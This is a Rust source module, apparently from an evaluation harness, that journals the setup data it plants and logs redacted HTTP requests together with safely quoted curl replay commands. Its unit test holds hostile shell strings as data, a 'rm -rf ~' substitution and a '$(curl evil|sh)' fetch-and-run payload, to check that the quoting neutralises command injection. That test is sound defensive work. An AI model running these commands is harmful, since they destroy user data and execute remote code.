//! What an application target leaves in the run folder:
//!
//! - `plants.jsonl`, the journal of what setup planted: a `planting` line before the
//!   setup steps are sent, a `planted` line with what they extracted (the ids teardown
//!   removes by), a `removed` or `remove_failed` line after teardown. Each line is
//!   written with one `write` call before the step it announces, so a kill -9 at any
//!   moment leaves a journal from which `--resume` or `pieval cleanup` finds every
//!   attempt not known to be removed ([`RunFiles::open_plants`]).
//! - `requests.jsonl`, every HTTP call as it was sent (credentials replaced by the name
//!   of the environment variable that holds them) with its status and a curl command
//!   that repeats it.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use serde_json::{Value, json};

use super::Rendered;
use super::config::Step;
use crate::error::{Error, Result};
use crate::provider::AttemptScope;

pub const JOURNAL_FILE: &str = "plants.jsonl";
pub const REQUESTS_FILE: &str = "requests.jsonl";

/// Attempts planted, removed, and left (their teardown failed).
#[derive(Clone, Copy, Debug, Default)]
pub struct Counts {
    pub planted: u64,
    pub removed: u64,
    pub left: u64,
}

pub struct RunFiles {
    journal_path: PathBuf,
    journal: Mutex<std::fs::File>,
    requests: Mutex<std::io::BufWriter<std::fs::File>>,
}

fn append(path: &Path) -> Result<std::fs::File> {
    if std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink()) {
        return Err(Error::State(format!(
            "{} is a symbolic link; a run folder's files are regular files",
            path.display()
        )));
    }
    std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .map_err(|e| Error::io(path, "cannot open", e))
}

impl RunFiles {
    pub fn open(dir: &Path) -> Result<Self> {
        let journal_path = dir.join(JOURNAL_FILE);
        Ok(Self {
            journal: Mutex::new(append(&journal_path)?),
            requests: Mutex::new(std::io::BufWriter::new(append(&dir.join(REQUESTS_FILE))?)),
            journal_path,
        })
    }

    fn line(&self, v: Value) -> std::io::Result<()> {
        let mut line = v.to_string();
        line.push('\n');
        let mut f = self.journal.lock().unwrap_or_else(|p| p.into_inner());
        // one write: a kill leaves whole lines (a torn last line is skipped on reading)
        f.write_all(line.as_bytes())
    }

    pub fn journal_begin(&self, scope: &AttemptScope) -> Result<()> {
        static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
        let id = format!(
            "{}#{}-{}",
            scope.key,
            std::process::id(),
            N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
        );
        scope.state().plant_id = Some(id.clone());
        self.line(json!({"event": "planting", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id}))
            .map_err(|e| Error::io(&self.journal_path, "cannot write the plant journal", e))
    }

    fn plant_id(scope: &AttemptScope) -> String {
        scope
            .state()
            .plant_id
            .clone()
            .unwrap_or_else(|| scope.key.clone())
    }

    pub fn journal_planted(&self, scope: &AttemptScope, vars: &BTreeMap<String, String>) {
        let _ = self.line(json!({"event": "planted", "plant_id": Self::plant_id(scope), "attempt_id": scope.key, "case_id": scope.case_id, "vars": vars}));
    }

    pub fn journal_end(&self, scope: &AttemptScope, error: Option<&str>) {
        let id = Self::plant_id(scope);
        let v = match error {
            None => {
                json!({"event": "removed", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id})
            }
            Some(e) => {
                json!({"event": "remove_failed", "plant_id": id, "attempt_id": scope.key, "case_id": scope.case_id, "error": e})
            }
        };
        let _ = self.line(v);
    }

    /// The attempts the journal does not know to be removed, with what setup extracted.
    pub fn open_plants(&self) -> Result<Vec<AttemptScope>> {
        open_plants(&self.journal_path)
    }

    pub fn request(
        &self,
        scope: &AttemptScope,
        step: &Step,
        sent: &Rendered,
        result: &std::result::Result<Option<String>, String>,
        latency_ms: f64,
        attempts: u32,
    ) {
        /// A line of `requests.jsonl` (serialized as it stands: no value tree built).
        #[derive(serde::Serialize)]
        struct Line<'a> {
            attempt_id: &'a str,
            case_id: &'a str,
            phase: &'a str,
            step: &'a str,
            method: &'a str,
            url: Cow<'a, str>,
            headers: Vec<(&'a str, Cow<'a, str>)>,
            body: Option<Cow<'a, str>>,
            error: Option<&'a str>,
            latency_ms: f64,
            attempts: u32,
            curl: String,
        }
        let line = Line {
            attempt_id: &scope.key,
            case_id: &scope.case_id,
            phase: step.phase.as_str(),
            step: &step.name,
            method: step.method.as_str(),
            url: shown(&sent.url),
            headers: sent
                .headers
                .iter()
                .map(|(k, v)| (k.as_str(), shown(v)))
                .collect(),
            body: sent.body.as_deref().map(shown),
            error: result.as_ref().err().map(String::as_str),
            latency_ms,
            attempts,
            curl: curl(step, sent),
        };
        let text = serde_json::to_string(&line).expect("strings and numbers");
        self.write_request(&text);
    }

    /// A line of the request log (redacted).
    pub fn record(&self, v: &Value) {
        self.write_request(&v.to_string());
    }

    fn write_request(&self, line: &str) {
        let line = crate::secrets::redact(line).0;
        let mut w = self.requests.lock().unwrap_or_else(|p| p.into_inner());
        let _ = w.write_all(line.as_bytes());
        let _ = w.write_all(b"\n");
    }

    pub fn flush(&self) {
        let _ = self
            .requests
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .flush();
        let _ = self
            .journal
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .sync_data();
    }
}

/// The attempts `journal` does not know to be removed (read by `pieval cleanup` too).
pub fn open_plants(journal: &Path) -> Result<Vec<AttemptScope>> {
    let text = match crate::files::read_bounded(journal, crate::files::Links::Refuse, 1 << 30) {
        Ok(b) => String::from_utf8_lossy(&b).into_owned(),
        Err(_) if !journal.exists() => return Ok(Vec::new()),
        Err(e) => return Err(e),
    };
    let mut open: BTreeMap<String, AttemptScope> = BTreeMap::new();
    for line in text.lines() {
        // a torn last line (a kill mid-write) is not a whole event
        let Ok(v) = serde_json::from_str::<Value>(line) else {
            continue;
        };
        let (Some(event), Some(key)) = (v["event"].as_str(), v["attempt_id"].as_str()) else {
            continue;
        };
        let id = v["plant_id"].as_str().unwrap_or(key).to_owned();
        let case_id = v["case_id"].as_str().unwrap_or(key);
        let fresh = || {
            let s = AttemptScope::bare_attempt(key, case_id);
            {
                let mut st = s.state();
                st.plant_id = Some(id.clone());
                st.journaled = true;
            }
            s
        };
        match event {
            "planting" => {
                open.insert(id.clone(), fresh());
            }
            "planted" => {
                let scope = open.entry(id.clone()).or_insert_with(fresh);
                if let Some(vars) = v["vars"].as_object() {
                    scope.set_vars(
                        vars.iter()
                            .filter_map(|(k, x)| x.as_str().map(|s| (k.clone(), s.to_owned())))
                            .collect(),
                    );
                }
            }
            "removed" => {
                open.remove(&id);
            }
            _ => {}
        }
    }
    Ok(open.into_values().collect())
}

/// A credential's place in a recorded request: `OPEN NAME CLOSE` (private-use
/// characters; the same characters in any other value are replaced before rendering).
pub const OPEN: char = '\u{E000}';
pub const CLOSE: char = '\u{E001}';

/// A recorded text with each credential's place shown as `${NAME}`.
pub fn shown(s: &str) -> Cow<'_, str> {
    if s.contains([OPEN, CLOSE]) {
        Cow::Owned(s.replace(OPEN, "${").replace(CLOSE, "}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The text for a POSIX shell: single-quoted (nothing in it is expanded or run —
/// attack text is data), each credential's place a `"${NAME}"` the shell fills in.
pub fn shell_word(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    shell_word_into(&mut out, s);
    out
}

/// [`shell_word`], appended to `out`.
pub fn shell_word_into(out: &mut String, s: &str) {
    let quoted = |out: &mut String, text: &str| {
        out.push('\'');
        for (i, part) in text.split('\'').enumerate() {
            if i > 0 {
                out.push_str("'\\''");
            }
            out.push_str(part);
        }
        out.push('\'');
    };
    let mut wrote = false;
    let mut rest = s;
    loop {
        let (lit, after) = match rest.find(OPEN) {
            Some(i) => (&rest[..i], Some(&rest[i + OPEN.len_utf8()..])),
            None => (rest, None),
        };
        if !lit.is_empty() || !wrote && after.is_none() {
            quoted(out, lit);
        }
        let Some(after) = after else { break };
        let (name, next) = match after.find(CLOSE) {
            Some(j) => (&after[..j], &after[j + CLOSE.len_utf8()..]),
            None => (after, ""),
        };
        let is_name = !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit();
        if is_name {
            out.push_str("\"${");
            out.push_str(name);
            out.push_str("}\"");
        } else {
            // never a shell expansion: whatever it is stays quoted text
            quoted(out, name);
        }
        wrote = true;
        rest = next;
        if rest.is_empty() {
            break;
        }
    }
}

/// A shell command that sends the same request (credentials read from the
/// environment).
fn curl(step: &Step, sent: &Rendered) -> String {
    let mut cmd = String::with_capacity(
        64 + sent.url.len() + sent.body.as_ref().map_or(0, String::len) * 5 / 4,
    );
    cmd.push_str("curl -sS -X ");
    cmd.push_str(step.method.as_str());
    cmd.push(' ');
    shell_word_into(&mut cmd, &sent.url);
    for (k, v) in &sent.headers {
        cmd.push_str(" -H ");
        shell_word_into(&mut cmd, &format!("{k}: {v}"));
    }
    if let Some(b) = &sent.body {
        cmd.push_str(" --data-binary ");
        shell_word_into(&mut cmd, b);
    }
    cmd
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_run_nothing() {
        assert_eq!(
            shell_word("a'b $(rm -rf ~) `x`"),
            "'a'\\''b $(rm -rf ~) `x`'"
        );
        let with = format!("Bearer {OPEN}BOT_TOKEN{CLOSE}");
        assert_eq!(shell_word(&with), "'Bearer '\"${BOT_TOKEN}\"");
        assert_eq!(shown(&with), "Bearer ${BOT_TOKEN}");
        assert_eq!(shell_word(""), "''");
        // a forged mark holding an expansion stays text
        let forged = format!("{OPEN}X:-$(curl evil|sh){CLOSE}");
        assert_eq!(shell_word(&forged), "'X:-$(curl evil|sh)'");
    }
}
